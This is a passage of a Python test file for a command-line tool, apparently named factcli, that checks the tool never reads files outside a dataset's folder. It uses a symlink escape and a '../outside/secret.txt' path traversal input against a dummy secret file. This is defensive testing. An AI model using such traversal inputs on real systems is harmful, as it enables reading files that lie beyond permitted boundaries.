        "--publisher", "P", "--published", "2021-01-01", "--url", "https://x.org", "--rights", "PD",
    )  # fmt: skip
    assert result.exit_code == 2 and "leads outside the dataset's folder" in result.stderr
    assert list(outside.iterdir()) == []


def test_ask_context_never_reads_outside(tmp_path: Path) -> None:
    """The headings ask reads above a quote come from inside the dataset's folder only."""
    from factcli.ask.tables import _Headings

    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("Secret heading\n\nThe password is hunter2, it says.\n")
    folder = tmp_path / "dataset"
    (folder / "sources").mkdir(parents=True)
    (folder / "sources" / "inside.txt").write_text("Inside heading\n\nSome text of a sentence.\n")
    (folder / "sources" / "leak").symlink_to(secret.parent)
    reader = _Headings(folder)
    assert [h.text for h in reader._read("sources/inside.txt")] == ["Inside heading"]
    assert reader._read("sources/leak/secret.txt") == []
    assert reader._read("../outside/secret.txt") == []
